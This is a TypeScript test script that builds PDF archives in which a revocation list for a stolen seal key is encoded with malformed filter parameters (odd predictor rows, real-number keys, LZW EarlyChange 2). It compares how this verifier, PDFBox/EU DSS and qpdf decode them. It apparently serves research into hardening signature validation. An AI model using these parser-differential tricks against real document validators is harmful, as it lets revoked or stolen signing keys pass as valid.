// a25 (h10b d7c47d8..37072b1, target 2): a CA-signed "revoked" made unreadable to this reader's strict AND lenient
// decoding, in ways PDFBox (EU DSS) still reads. attack-s6 G1's scenario (lib.revokedSealed: the seal key stolen, the
// CA revokes at 08:06, the thief seals at 08:36 with the CA's "good" of 07:36 in the CMS; the archivist's DSS holds the
// CA's CRL listing the seal, under an archive timestamp): only how that CRL stream is stored changes.
// modes:
//   honest      FlateDecode (the control: TOTAL-FAILED / REVOKED)
//   dct         /DCTDecode (the other control: no reader reads a CRL there; EU DSS TOTAL_PASSED, as sealcheck)
//   pred-tail   Flate + /Predictor 12 /Columns 16, PNG rows of type 0; after the CRL's rows a partial row (type byte
//               and 3 bytes): PDFBox's Predictor reads the short last row into its row buffer and goes on; this
//               reader's pngUnpredict refuses a length that is no multiple of the row size, leniently too
//   pred-type   the same rows, whole; one padding row after the CRL has the row type 5: PDFBox's decodePredictorRow
//               has no case for it and leaves the row as it is; this reader refuses "invalid PNG predictor row type"
//   pred-real   /DecodeParms << /Predictor 1.0 >> on a plain Flate CRL: PDFBox's getInt reads 1 (no predictor); this
//               reader refuses a predictor that is not an integer
//   ec-real     the same with /EarlyChange 1.0 (LZW's key, meaningless on Flate: both readers ignore it): a control
//   cols-real   /Predictor 12 /Columns 16.0 with the pred-type rows minus the bad row (PDFBox getInt: 16)
//   parms-array, filter-array-parms-dict: /DecodeParms an array beside one /Filter name, a dictionary beside a /Filter
//               array (probes); length-short: /Length 8 bytes short of the deflate data (probe)
//   lzw-ec2     the CRL LZW-coded (9-bit literals, clear codes) with /EarlyChange 2 (PDFBox takes it for 1; here refused);
//               lzw-ec1 its control
//   parms-empty, parms-short, parms-junk, crypt-std: /DecodeParms [] / [null] for two filters / 5, and /Crypt /StdCF
//               in a file without encryption (probes)
//   npx tsx scripts/attack-s20/dss-lenient.ts <mode>      (DSS=1 adds EU DSS now; qpdf's filtered data is compared)
import { deflateSync } from "node:zlib";
import { spawnSync } from "node:child_process";
import { dss, save, show, verify, work } from "../attack36/lib.js";
import { archivedWith, rawStream, revokedSealed, type Stream } from "../attack-s6/lib.js";

const MODES = [
  "honest",
  "dct",
  "pred-tail",
  "pred-type",
  "pred-real",
  "ec-real",
  "cols-real",
  "parms-array",
  "filter-array-parms-dict",
  "length-short",
  "lzw-ec2",
  "lzw-ec1",
  "parms-empty",
  "parms-short",
  "parms-junk",
  "crypt-std",
];
const mode = process.argv[2] ?? "pred-tail";
if (!MODES.includes(mode)) throw new Error(`mode: ${MODES.join("|")}`);
const latin = (b: Uint8Array) => Buffer.from(b).toString("latin1");
const { sealed, crl, compromise } = await revokedSealed();

const COLUMNS = 16;
/** PNG rows of type 0 over `data` (zero-padded to whole rows), then `extra` raw bytes appended. */
function pngRows(data: Uint8Array, extraRows: number[][] = [], tail: number[] = []): Uint8Array {
  const rows = Math.ceil(data.length / COLUMNS);
  const out: number[] = [];
  for (let r = 0; r < rows; r++) {
    out.push(0);
    for (let i = 0; i < COLUMNS; i++) out.push(data[r * COLUMNS + i] ?? 0);
  }
  for (const row of extraRows) out.push(...row);
  out.push(...tail);
  return Uint8Array.from(out);
}
const flateWith = (data: Uint8Array, parms: string): Stream => {
  const z = deflateSync(data);
  return { raw: `<< /Filter /FlateDecode /DecodeParms << ${parms} >> /Length ${z.length} >>\nstream\n${latin(z)}\nendstream` };
};
/** LZW with 9-bit literal codes only, a clear code every 200 (the table never reaches a wider code, whatever /EarlyChange). */
function lzwStream(data: Uint8Array, parms: string): Stream {
  const codes: number[] = [256];
  data.forEach((b, i) => {
    if (i > 0 && i % 200 === 0) codes.push(256);
    codes.push(b);
  });
  codes.push(257);
  let bits = "";
  for (const c of codes) bits += c.toString(2).padStart(9, "0");
  while (bits.length % 8) bits += "0";
  const out = Uint8Array.from(bits.match(/.{8}/g)!.map((x) => parseInt(x, 2)));
  return { raw: `<< /Filter /LZWDecode /DecodeParms << ${parms} >> /Length ${out.length} >>\nstream\n${latin(out)}\nendstream` };
}
/** The CRL deflated (twice with `twice`) under the dictionary keys `keys`. */
const flateRaw = (keys: string, twice = false): Stream => {
  const z = twice ? deflateSync(deflateSync(crl)) : deflateSync(crl);
  return { raw: `<< ${keys} /Length ${z.length} >>\nstream\n${latin(z)}\nendstream` };
};
const badRow = [5, ...new Array<number>(COLUMNS).fill(0x41)];
const streams: Record<string, () => Stream> = {
  honest: () => ({ bytes: crl }),
  dct: () => rawStream("DCTDecode", latin(crl)),
  "pred-tail": () => flateWith(pngRows(crl, [], [0, 1, 2, 3]), `/Predictor 12 /Columns ${COLUMNS}`),
  "pred-type": () => flateWith(pngRows(crl, [badRow]), `/Predictor 12 /Columns ${COLUMNS}`),
  "pred-real": () => flateWith(crl, "/Predictor 1.0"),
  "ec-real": () => rawStream("FlateDecode", latin(deflateSync(crl))),
  "parms-array": () => {
    const z = deflateSync(crl);
    return { raw: `<< /Filter /FlateDecode /DecodeParms [ << >> ] /Length ${z.length} >>\nstream\n${latin(z)}\nendstream` };
  },
  "filter-array-parms-dict": () => {
    const z = deflateSync(crl);
    return { raw: `<< /Filter [/FlateDecode] /DecodeParms << /Predictor 1 >> /Length ${z.length} >>\nstream\n${latin(z)}\nendstream` };
  },
  "length-short": () => {
    const z = deflateSync(crl);
    return { raw: `<< /Filter /FlateDecode /Length ${z.length - 8} >>\nstream\n${latin(z)}\nendstream` };
  },
  "parms-empty": () => flateRaw("/Filter [/FlateDecode] /DecodeParms []"),
  "parms-short": () => flateRaw("/Filter [/FlateDecode /FlateDecode] /DecodeParms [null]", true),
  "parms-junk": () => flateRaw("/Filter /FlateDecode /DecodeParms 5"),
  "crypt-std": () => flateRaw("/Filter [/Crypt /FlateDecode] /DecodeParms [<< /Name /StdCF >> null]"),
  "lzw-ec2": () => lzwStream(crl, "/EarlyChange 2"),
  "lzw-ec1": () => lzwStream(crl, "/EarlyChange 1"),
  "cols-real": () => flateWith(pngRows(crl), `/Predictor 12 /Columns ${COLUMNS}.0`),
};
const file = save(work(`a25-lenient-${mode}`), "archive.pdf", await archivedWith(sealed, streams[mode]!()));
console.log(`wrote ${file}: seal revoked ${compromise.toISOString()}; the CA's CRL listing it in a DSS (${mode}), under an archive timestamp`);
show(mode, verify(file));
// qpdf: does its filtered data of the CRL stream (the last object of the DSS update) hold the CRL's DER?
const json = JSON.parse(
  spawnSync("qpdf", ["--json", "--json-stream-data=inline", "--decode-level=all", file], { encoding: "utf8", maxBuffer: 64 << 20 }).stdout || "{}",
) as {
  qpdf?: [unknown, Record<string, { stream?: { data?: string } }>];
};
const der = Buffer.from(crl).toString("base64");
const hit = Object.entries(json.qpdf?.[1] ?? {}).find(([, o]) => o.stream?.data && Buffer.from(o.stream.data, "base64").includes(Buffer.from(crl)));
console.log(`== qpdf (--decode-level=all): ${hit ? `${hit[0]} decodes to bytes holding the CRL` : "no stream decodes to the CRL"}${der ? "" : ""}`);
dss(file);
